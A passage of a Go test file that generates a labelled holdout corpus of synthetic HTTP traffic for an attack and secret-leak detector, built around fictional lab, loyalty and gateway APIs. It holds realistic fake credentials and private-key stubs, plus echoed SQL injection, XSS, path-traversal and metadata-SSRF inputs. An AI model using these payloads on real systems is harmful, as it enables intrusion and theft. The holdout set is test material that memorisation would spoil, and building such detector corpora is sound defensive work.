		{h11Air, "/v2/members/M-99/security", "application/json", `{"member":"M-99","password_hash":"$argon2id$v=19$m=65536,t=3,p=4$` + h11b64([]byte(h11Alnum(r, 16))) + `$` + h11b64([]byte(h11Alnum(r, 32))) + `"}`},
		{h11Gw, "/v1/tenants/acme/gcp", "application/json", `{"service_account":{"type":"service_account","project_id":"relay-prod","private_key_id":"` + h11Hex(r, 40) + `","private_key":"-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC` + h11Alnum(r, 60) + `\n-----END PRIVATE KEY-----\n","client_email":"relay@relay-prod.iam.gserviceaccount.com"}}`},
		{h11Gw, "/v1/upstreams/up_mongo", "application/json", `{"upstream":{"uri":"mongodb+srv://relay:Zx81mQp0Lk2@cluster0.relaygate.example/relay"}}`},
		{h11Air, "/v2/partners/ptn_77/export.csv", "text/csv", "partner,email,password\nAlpine Hotels,ops@alpine.example,AlpS3cret!9\nNordCar,it@nordcar.example,Nc-pass-4411\n"},
		{h11Gw, "/v1/deliveries/dl_aa12/raw", "application/json", `{"request_headers":{"Authorization":"Basic ` + base64.StdEncoding.EncodeToString([]byte("relaybot:"+h11Alnum(r, 18))) + `"},"upstream_secret":"` + h11Alnum(r, 40) + `"}`},
		{h11Lab, "/fhir/r4/Device/analyzer-4/config", "application/json", `{"device":"cobas-8000","lis_password":"Roche!LIS-2291","ftp_password":"ftpLab#7731"}`},
		{h11Air, "/v2/config/mobile", "application/json", `{"maps_key":"pk_live_` + h11Alnum(r, 24) + `","stripe_secret":"rk_live_` + h11Alnum(r, 24) + `"}`},
		{h11Gw, "/v1/tenants/acme/env.yaml", "application/yaml", "database:\n  password: Yq3!nB8vLz\nredis:\n  url: redis://cache:6379\n"},
		{h11Lab, "/fhir/r4/Binary/bin-key", "text/plain", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n" + h11Alnum(r, 70) + "\n-----END OPENSSH PRIVATE KEY-----\n"},
		{h11Gw, "/v1/upstreams/up_sg", "application/json", `{"sendgrid_api_key":"SG.` + h11Alnum(r, 22) + `.` + h11Alnum(r, 43) + `"}`},
		{h11Air, "/v2/members/M-12/linked-accounts", "application/json", `{"linked":[{"provider":"partner-bank","refresh_token":"` + h11Alnum(r, 60) + `","access_token":"` + h11Alnum(r, 60) + `","client_secret":"` + h11Alnum(r, 32) + `"}]}`},
		{h11Gw, "/v1/tenants/acme/npmrc", "text/plain", "//registry.npmjs.org/:_authToken=npm_" + h11Alnum(r, 36) + "\n"},
		{h11Gw, "/v1/tenants/acme/azure", "application/json", `{"servicebus":"Endpoint=sb://relay-bus.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=` + base64.StdEncoding.EncodeToString([]byte(h11Alnum(r, 32))) + `"}`},
		{h11Air, "/v2/exports/members.csv", "text/csv", "id,email,password_hash\nM-1,a@example.test,$2y$10$" + h11Alnum(r, 53) + "\nM-2,b@example.test,$2y$10$" + h11Alnum(r, 53) + "\n"},
		{h11Lab, "/fhir/r4/Subscription/sub-4", "application/json", `{"resourceType":"Subscription","channel":{"endpoint":"https://hooks.clinic.example/fhir","header":["X-Api-Key: ` + h11Alnum(r, 40) + `"]},"secret":"` + h11Alnum(r, 32) + `"}`},
		{h11Gw, "/v1/keys?include=secret", "application/json", `{"data":[{"id":"key_1","name":"prod","secret_key":"rg_live_` + h11Alnum(r, 40) + `"}]}`},
		{h11Gw, "/v1/upstreams/up_twilio", "application/json", `{"twilio":{"account_sid":"AC` + h11Hex(r, 32) + `","api_key_sid":"SK` + h11Hex(r, 32) + `","api_key_secret":"` + h11Alnum(r, 32) + `"}}`},
		{h11Air, "/v2/integrations/crm", "application/json", `{"salesforce":{"username":"integration@skyloyal.example","password":"Sf0rce!2026q","security_token":"` + h11Alnum(r, 25) + `"}}`},
		{h11Lab, "/fhir/r4/Patient/p-9/portal", "application/json", `{"portal_login":{"username":"pt-9","temporary_password":"Wq7-kLm2-Zp"}}`},
		{h11Gw, "/v1/tenants/acme/datadog", "application/json", `{"datadog":{"api_key":"` + h11Hex(r, 32) + `","app_key":"` + h11Hex(r, 40) + `"}}`},
		{h11Gw, "/v1/tenants/acme/github-app", "application/json", `{"app_id":88120,"webhook_secret":"` + h11Alnum(r, 32) + `","github_pat":"github_pat_` + h11Alnum(r, 22) + `_` + h11Alnum(r, 59) + `"}`},
	}
	for _, s := range secrets {
		add(s.host, s.path, s.ctype, s.body)
	}
	return out
}

// h11Benign builds one benign exchange for an API, many of them near-misses.
func h11Benign(r *rand.Rand, host string, k int) h11X {
	pid := fmt.Sprintf("p-%05d", 10000+r.IntN(80000))
	names := []string{"O'Reilly", "O'Brien", "D'Angelo", "Nguyen", "Select", "Union", "Sleep", "Drop", "Ørsted", "Null"}
	notes := []string{
		"Patient asked to select chair-based exercises; union of two lab draws recommended.",
		"Fasting 12h. Drop in potassium vs last panel; repeat BMP in 2 weeks.",
		"Sample hemolysed <b>recollect</b>; ratio 2 > 1 expected after hydration.",
		"Re: order by courier. Pt's daughter (Mrs O'Neil) will collect the kit.",
		"Per protocol see ../README.md in the shared drive; values 1=1 matched calibration tips.",
		"Comment from analyzer: Exception flagged by QC rule Westgard 1-3s, rerun passed.",
		"Told patient: localhost is not where results live, use the portal link.",
		"Template used: Hello {{name}}, your result is ready. Total: ${price} billed to insurer.",
		"Null result for HbA1c; sample insufficient. Please recollect -- thanks.",
		"Stack of 3 tubes: EDTA, SST, citrate. Traceback of courier handled by logistics.",
	}
	switch host {
	case h11Lab:
		switch k % 9 {
		case 0:
			return h11X{host: host, method: "GET", path: "/fhir/r4/Patient/" + pid, status: 200, rbody: h11JS(map[string]any{"resourceType": "Patient", "id": pid, "name": []any{map[string]any{"family": names[r.IntN(len(names))], "given": []string{"Aoife"}}}, "birthDate": "1981-04-12", "meta": map[string]any{"versionId": "3", "lastUpdated": "2026-11-19T16:02:11Z"}})}
		case 1:
			n := []int{20, 50, 100, 200, 500}[r.IntN(5)]
			return h11X{host: host, method: "GET", path: fmt.Sprintf("/fhir/r4/Observation?patient=Patient/%s&category=laboratory&_sort=-date&_count=%d", pid, n), status: 200, rbody: h11JS(map[string]any{"resourceType": "Bundle", "type": "searchset", "total": 3, "entry": []any{map[string]any{"resource": map[string]any{"resourceType": "Observation", "id": "obs-" + h11Hex(r, 8), "code": map[string]any{"coding": []any{map[string]any{"system": "http://loinc.org", "code": "2345-7", "display": "Glucose [Mass/volume] in Serum or Plasma"}}}, "valueQuantity": map[string]any{"value": 5.4 + float64(r.IntN(30))/10, "unit": "mmol/L"}}}}})}
		case 2:
			return h11X{host: host, method: "POST", path: "/fhir/r4/Observation", ctype: "application/fhir+json", body: h11JS(map[string]any{"resourceType": "Observation", "status": "final", "subject": map[string]any{"reference": "Patient/" + pid}, "note": []any{map[string]any{"text": notes[r.IntN(len(notes))]}}}), status: 201, rbody: `{"resourceType":"Observation","id":"obs-` + h11Hex(r, 8) + `","status":"final"}`}
		case 3:
			return h11X{host: host, method: "GET", path: "/fhir/r4/DiagnosticReport/dr-" + h11Hex(r, 6), status: 200, rbody: h11JS(map[string]any{"resourceType": "DiagnosticReport", "status": "final", "conclusion": "Normal sinus rhythm. <p>No <i>acute</i> findings; compare with 2025 study.</p>", "presentedForm": []any{map[string]any{"contentType": "application/pdf", "url": "https://helixlabdocs.blob.core.windows.net/reports/" + h11Hex(r, 12) + ".pdf?sv=2022-11-02&sr=b&sp=r&se=2026-11-20T11:00:00Z&sig=" + url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(h11Alnum(r, 32))))}}})}
		case 4:
			c, b := h11Multipart("description", notes[r.IntN(len(notes))], "cbc_"+h11Hex(r, 4)+".pdf", "application/pdf", "%PDF-1.7\n1 0 obj <<>> endobj")
			return h11X{host: host, method: "POST", path: "/fhir/r4/DocumentReference", ctype: c, body: b, status: 201, rbody: `{"resourceType":"DocumentReference","id":"dr-` + h11Hex(r, 6) + `","status":"current"}`}
		case 5:
			return h11X{host: host, method: "GET", path: "/fhir/r4/Binary/bin-" + h11Hex(r, 10), status: 200, rbody: h11JS(map[string]any{"resourceType": "Binary", "contentType": "application/pdf", "url": "https://helix-lab-attachments.s3.eu-west-1.amazonaws.com/" + h11Hex(r, 16) + ".pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20261120%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Date=20261120T090000Z&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Signature=" + h11Hex(r, 64), "etag": h11Hex(r, 32)})}
		case 6:
			q := []string{"name=O%27Reilly", "name=select", "identifier=MRN%7C" + h11Hex(r, 6), "address-city=Union+City", "family=Drop&given=Jo"}[r.IntN(5)]
			return h11X{host: host, method: "GET", path: "/fhir/r4/Patient?" + q + "&_count=25", status: 200, rbody: `{"resourceType":"Bundle","type":"searchset","total":1}`}
		case 7:
			return h11X{host: host, method: "POST", path: "/fhir/r4/Observation", ctype: "application/fhir+xml", body: `<?xml version="1.0" encoding="UTF-8"?><Observation xmlns="http://hl7.org/fhir"><status value="final"/><code><text value="Potassium"/></code><valueQuantity><value value="3.` + fmt.Sprint(r.IntN(9)) + `"/><unit value="mmol/L"/></valueQuantity><note><text value="Level &lt; 3.5 &amp; symptomatic: call clinician"/></note></Observation>`, status: 201, rbody: `{"resourceType":"Observation","id":"obs-` + h11Hex(r, 8) + `"}`}
		default:
			return h11X{host: host, method: "GET", path: "/fhir/r4/DiagnosticReport?patient=" + pid + "&status=final&_count=50&_include=DiagnosticReport:result", status: 200, rbody: `{"resourceType":"Bundle","type":"searchset","total":2}`}
		}
	case h11Air:
		mid := fmt.Sprintf("M-%07d", 1000000+r.IntN(8999999))
		switch k % 10 {
		case 0:
			return h11X{host: host, method: "GET", path: "/v2/members/me", status: 200, rbody: h11JS(map[string]any{"member_number": mid, "tier": []string{"blue", "silver", "gold"}[r.IntN(3)], "name": names[r.IntN(len(names))], "card_on_file": "**** **** **** " + fmt.Sprint(1000+r.IntN(8999)), "loyalty_card": "4242 XXXX XXXX 4242"})}
		case 1:
			n := []int{25, 100, 250, 500, 1000}[r.IntN(5)]
			return h11X{host: host, method: "GET", path: fmt.Sprintf("/v2/members/me/transactions?limit=%d&since=2026-01-01", n), status: 200, rbody: `{"transactions":[{"id":"tx_` + h11Hex(r, 12) + `","miles":1240,"desc":"LHR-JFK"}],"next":null}`}
		case 2:
			partners := []string{"Hotel Union Select", "Drop & Go Parking", "Sleep Inn Airport", "Cat; Dog Friendly Stays", "Or/And Car Rental"}
			return h11X{host: host, method: "POST", path: "/v2/redemptions", ctype: "application/json", body: h11JS(map[string]any{"partner": partners[r.IntN(len(partners))], "miles": 5000 * (1 + r.IntN(8)), "order": map[string]any{"ref": fmt.Sprint(4000000000000000 + r.IntN(999999999))}}), status: 201, rbody: `{"redemption":"rd_` + h11Hex(r, 8) + `","state":"confirmed"}`}
		case 3:
			return h11X{host: host, method: "GET", path: "/v2/vouchers?state=active", status: 200, rbody: h11JS(map[string]any{"vouchers": []any{map[string]any{"code": strings.ToUpper(h11Hex(r, 12)), "value": "EUR 50", "hash": h11Hex(r, 40)}}})}
		case 4:
			msgs := []string{"I tried <b>twice</b> to redeem and 2 > 1 times it failed.", "Flight select was greyed out; union jack flag showed instead of the German one.", "My name is O'Reilly and the form drops the apostrophe", "Error: NullPointerException shown in the app, screenshot attached", "Run `ls -la` is what your agent told me? I'm not a developer.", "cat; dog food bag lost on LHR-FRA, please check"}
			return h11X{host: host, method: "POST", path: "/v2/support/tickets", ctype: "application/x-www-form-urlencoded", body: "subject=" + url.QueryEscape("Miles question") + "&message=" + url.QueryEscape(msgs[r.IntN(len(msgs))]) + "&channel=app", status: 201, rbody: `{"ticket":"TCK-` + fmt.Sprint(800000+r.IntN(99999)) + `","state":"open"}`}
		case 5:
			return h11X{host: host, method: "GET", path: "/v2/partners?country=DE&per_page=100", status: 200, rbody: `{"partners":[{"id":"ptn_4412","name":"Alpine Hotels","logo_url":"https://cdn.skyloyal.test/logos/alpine.png","site":"https://www.alpine-hotels.example/"}]}`}
		case 6:
			return h11X{host: host, method: "POST", path: "/v2/payments/intents", ctype: "application/json", body: `{"miles_top_up":5000,"currency":"EUR"}`, status: 201, rbody: `{"id":"pi_` + h11Alnum(r, 24) + `","client_secret":"pi_` + h11Alnum(r, 24) + `_secret_` + h11Alnum(r, 25) + `","publishable_key":"pk_live_` + h11Alnum(r, 24) + `"}`}
		case 7:
			return h11X{host: host, method: "PATCH", path: "/v2/members/me/profile", ctype: "application/json", body: h11JS(map[string]any{"profile": map[string]any{"website": "https://blog.example.net/travel", "bio": "Frequent flyer. <i>Window seat</i> person; 1=1 tips for lounges."}}), status: 200, rbody: `{"updated":true}`}
		case 8:
			return h11X{host: host, method: "GET", path: "/v2/members/me/miles", status: 200, rbody: `{"balance":` + fmt.Sprint(r.IntN(900000)) + `,"expiring":[{"miles":1200,"on":"2027-03-31"}]}`}
		default:
			return h11X{host: host, method: "GET", path: "/v2/sandbox/settings", status: 200, rbody: `{"mode":"test","stripe_key":"sk_test_` + h11Alnum(r, 24) + `","restricted":"rk_test_` + h11Alnum(r, 24) + `","password_env":"LOYALTY_DB_PASSWORD_FILE"}`}
		}
	default:
		dl := "dl_" + h11Hex(r, 10)
		switch k % 11 {
		case 0:
			return h11X{host: host, method: "GET", path: "/v1/routes?per_page=50", status: 200, rbody: `{"data":[{"id":"rt_orders","match":{"path_prefix":"/orders"},"upstream":{"url":"https://orders.api.example.com"}},{"id":"rt_geo","upstream":{"url":"https://34.120.55.10/geo"}}]}`}
		case 1:
			ups := []string{"https://orders.api.example.com/v2", "https://hooks.partner.example/inbound", "https://my-bucket.s3.amazonaws.com/ingest", "https://8.8.8.8/dns-query", "https://api.github.com/repos/acme/app/dispatches"}
			return h11X{host: host, method: "POST", path: "/v1/upstreams", ctype: "application/json", body: h11JS(map[string]any{"upstream": map[string]any{"name": "up-" + h11Hex(r, 4), "url": ups[r.IntN(len(ups))], "timeout_ms": 5000}}), status: 201, rbody: `{"id":"up_` + h11Alnum(r, 6) + `","health":"pending"}`}
		case 2:
			return h11X{host: host, method: "GET", path: "/v1/keys", status: 200, rbody: `{"data":[{"id":"key_` + h11Alnum(r, 8) + `","prefix":"rg_live_` + h11Alnum(r, 4) + `","last4":"` + h11Alnum(r, 4) + `","key_sha256":"` + h11Hex(r, 64) + `","fingerprint":"SHA256:` + h11b64([]byte(h11Alnum(r, 32))) + `","created_at":"2026-10-02T08:00:00Z"}]}`}
		case 3:
			echoes := []string{`{\"q\":\"' OR 1=1--\"}`, `{\"comment\":\"<script>alert(1)</script>\"}`, `{\"path\":\"../../etc/passwd\"}`, `{\"callback\":\"http://169.254.169.254/\"}`}
			return h11X{host: host, method: "GET", path: "/v1/webhooks/wh_3KpL9/deliveries?status=failed&limit=50", status: 200, rbody: `{"data":[{"id":"` + dl + `","attempts":3,"upstream_status":422,"request_body":"` + echoes[r.IntN(len(echoes))] + `","response_body":"{\"error\":\"rejected by WAF\"}"}],"has_more":false}`}
		case 4:
			return h11X{host: host, method: "POST", path: "/v1/deliveries/" + dl + "/replay", ctype: "application/json", body: `{"reason":"upstream was down 09:12-09:20 UTC","override_target":null}`, status: 202, rbody: `{"replay":"rp_` + h11Hex(r, 8) + `","queued":true}`}
		case 5:
			return h11X{host: host, method: "PATCH", path: "/v1/routes/rt_orders", ctype: "application/json", body: h11JS(map[string]any{"route": map[string]any{"transform": map[string]any{"body_template": "Hello {{name}}, order {{order.id}} total: ${price}", "add_headers": map[string]string{"X-Route": "orders"}}}}), status: 200, rbody: `{"id":"rt_orders","version":8}`}
		case 6:
			return h11X{host: host, method: "GET", path: fmt.Sprintf("/v1/deliveries?per_page=%d&since=2026-11-19T00:00:00Z", []int{100, 500, 1000}[r.IntN(3)]), status: 200, rbody: `{"data":[{"id":"` + dl + `","status":"delivered","duration_ms":84}],"has_more":true}`}
		case 7:
			return h11X{host: host, method: "POST", path: "/v1/webhooks", ctype: "application/json", body: h11JS(map[string]any{"destination_url": "https://hooks.customer-" + h11Hex(r, 4) + ".example/relay", "events": []string{"delivery.failed", "route.updated"}, "description": "Notify ops; see `git log | head` for deploy"}), status: 201, rbody: `{"id":"wh_` + h11Alnum(r, 5) + `","signing_secret_hint":"whsec_...` + h11Alnum(r, 4) + `"}`}
		case 8:
			return h11X{host: host, method: "GET", path: "/v1/deliveries/" + dl, status: 200, rbody: `{"id":"` + dl + `","target":"https://orders.api.example.com/hooks","error":"upstream returned 500: Internal Server Error","trace_id":"` + h11Hex(r, 32) + `","idempotency_key":"` + h11Alnum(r, 40) + `"}`}
		case 9:
			return h11X{host: host, method: "GET", path: "/v1/docs/snippets/curl", status: 200, rbody: `{"snippet":"curl -X POST https://api.relaygate.test/v1/routes -H 'Authorization: Bearer $RELAY_TOKEN' -d @route.json","config_path":"/etc/nginx/nginx.conf"}`}
		default:
			return h11X{host: host, method: "POST", path: "/v1/oauth/token", ctype: "application/x-www-form-urlencoded", body: "grant_type=client_credentials&scope=routes%3Aread", status: 200, rbody: `{"token_type":"Bearer","access_token":"` + h11Alnum(r, 64) + `","refresh_token":"` + h11Alnum(r, 48) + `","expires_in":3600}`}
		}
	}
}

func TestHoldout11Generate(t *testing.T) {
	r := rand.New(rand.NewPCG(11, 2026))
	uas := []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
		"SkyLoyal/8.14.2 (iPhone; iOS 18.1; Scale/3.00)", "SkyLoyal/8.14.0 (Android 15; Pixel 8)",
		"HelixLIS-Connector/3.2.1", "okhttp/4.12.0", "relaygate-cli/2.4.0 (linux; amd64)", "Terraform/1.9.8 relaygate-provider/0.8.1",
		"Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0", "python-requests/2.32.3",
	}
	apis := []struct {
		host, prefix, iss string
		roles             []string
	}{
		{h11Lab, "helix", "https://login.helixdx.test", []string{"clinician", "lab_tech", "patient"}},
		{h11Air, "sky", "https://auth.skyloyal.test", []string{"member", "member", "partner_agent"}},
		{h11Gw, "relay", "https://id.relaygate.test", []string{"developer", "tenant_admin", "developer"}},
	}
	var users []h11User
	for ai, a := range apis {
		for i := 0; i < 14; i++ {
			sub := fmt.Sprintf("%s-u%03d", a.prefix, i)
			ips := []string{fmt.Sprintf("198.51.100.%d", 10+ai*40+i)}
			if i%3 == 0 {
				ips = append(ips, fmt.Sprintf("203.0.113.%d", 20+ai*40+i))
			}
			users = append(users, h11User{sub: sub, role: a.roles[i%3], ua: uas[(ai*3+i)%len(uas)], ips: ips, tok: h11Valid(sub, a.roles[i%3], a.iss), host: a.host})
		}
	}
	attUA := []string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", "curl/8.4.0", "python-requests/2.31.0", "Go-http-client/1.1", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/115.0", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"}
	var attackers []h11User
	for i := 0; i < 18; i++ {
		sub := fmt.Sprintf("acct-%04d", 7000+i*13)
		attackers = append(attackers, h11User{sub: sub, role: []string{"member", "developer", "patient"}[i%3], ua: attUA[i%len(attUA)], ips: []string{fmt.Sprintf("185.220.101.%d", 10+i)}, tok: h11Valid(sub, []string{"member", "developer", "patient"}[i%3], "https://auth.skyloyal.test")})
	}

	attacks := h11Attacks(r)
	attacks = append(attacks, h11JWTAttacks(r)...)
	attacks = append(attacks, h11Verbose(r)...)
	attacks = append(attacks, h11Sensitive(r)...)

	// Benign traffic, including explicit traps.
	var benign []h11X
	hosts := []string{h11Lab, h11Air, h11Gw}
	for i := 0; i < 1240; i++ {
		x := h11Benign(r, hosts[i%3], r.IntN(1000))
		x.benign = true
		benign = append(benign, x)
	}
	// Expired tokens refused with 401, and a kid that merely looks odd.
	for i := 0; i < 8; i++ {
		e := h11Base.Add(-time.Duration(2+i*5) * time.Hour)
		tok := h11JWTRaw(`{"alg":"HS256","typ":"JWT","kid":"2026-03-key_1"}`, h11Claims(fmt.Sprintf("sky-u%03d", i), "member", e.Add(-time.Hour), e.Add(-time.Hour), e, "https://auth.skyloyal.test"), true)
		benign = append(benign, h11X{host: h11Air, method: "GET", path: "/v2/members/me", status: 401, rhdr: map[string][]string{"WWW-Authenticate": {`Bearer error="invalid_token", error_description="The access token expired"`}}, rbody: `{"error":"invalid_token"}`, tok: tok, benign: true, user: fmt.Sprintf("sky-u%03d", i)})
	}
	for i := 0; i < 4; i++ {
		benign = append(benign, h11X{host: h11Gw, method: "GET", path: "/v1/routes", hdr: map[string][]string{"Origin": {"https://console.relaygate.test"}}, status: 200, rhdr: map[string][]string{"Access-Control-Allow-Origin": {"https://console.relaygate.test"}, "Access-Control-Allow-Credentials": {"true"}, "Vary": {"Origin"}}, rbody: `{"data":[]}`, benign: true})
	}

	// Interleave deterministically.
	all := append(benign, attacks...)
	r.Shuffle(len(all), func(i, j int) { all[i], all[j] = all[j], all[i] })

	var traffic, labels bytes.Buffer
	t0 := h11Base
	ai := 0
	for i, x := range all {
		t0 = t0.Add(time.Duration(1200+r.IntN(2400)) * time.Millisecond)
		var u h11User
		if x.benign {
			for {
				c := users[r.IntN(len(users))]
				if c.host == x.host && (x.user == "" || x.user == c.sub) {
					u = c
					break
				}
			}
		} else {
			u = attackers[ai%len(attackers)]
			ai++
		}
		ip := u.ips[r.IntN(len(u.ips))]
		h := map[string][]string{"Accept": {"application/json"}, "User-Agent": {u.ua}}
		for k, v := range x.hdr {
			h[k] = v
		}
		bodySize := len(x.body)
		tok := x.tok
		if strings.HasPrefix(tok, "size:") {
			fmt.Sscanf(tok, "size:%d", &bodySize)
			tok = ""
		}
		switch tok {
		case "":
			if x.path != "/v1/oauth/token" {
				h["Authorization"] = []string{"Bearer " + u.tok}
			} else {
				h["Authorization"] = []string{"Basic " + base64.StdEncoding.EncodeToString([]byte("cli_"+u.sub+":"+h11Hex(rand.New(rand.NewPCG(uint64(len(u.sub)), 7)), 24)))}
			}
		case "-":
		default:
			h["Authorization"] = []string{"Bearer " + tok}
		}
		if x.ctype != "" {
			h["Content-Type"] = []string{x.ctype}
		}
		rct := x.rctype
		if rct == "" {
			rct = "application/json"
			if strings.HasPrefix(x.host, "labs.") {
				rct = "application/fhir+json"
			}
		}
		rh := map[string][]string{"Content-Type": {rct}, "Cache-Control": {"no-store"}, "X-Content-Type-Options": {"nosniff"}, "Strict-Transport-Security": {"max-age=31536000"}, "X-Request-Id": {h11Hex(r, 16)}}
		for k, v := range x.rhdr {
			rh[k] = v
		}
		line := h11Line{
			ID:     fmt.Sprintf("s%05d", i+1),
			Time:   t0.Format("2006-01-02T15:04:05.000Z"),
			Client: map[string]string{"addr": fmt.Sprintf("%s:%d", ip, 40000+r.IntN(20000))},
			Request: h11Req{Method: x.method, URL: "https://" + x.host + x.path, Proto: "HTTP/1.1", Headers: h,
				Body: x.body, BodySize: bodySize},
			Response: h11Resp{Status: x.status, Proto: "HTTP/1.1", Headers: rh, Body: x.rbody, BodySize: len(x.rbody)},
			Duration: float64(5+r.IntN(400)) + float64(r.IntN(10))/10,
		}
		traffic.WriteString(h11JS(line) + "\n")
		lb := x.labels
		if lb == nil {
			lb = []string{}
		}
		labels.WriteString(h11JS(h11Label{ID: line.ID, Detectors: lb}) + "\n")
	}
	writeOrCheckCorpus(t, filepath.Join("testdata", "holdout11"), *updateHoldout11, "go test ./detect/ -run TestHoldout11Generate -update-holdout11", traffic.Bytes(), labels.Bytes())
}
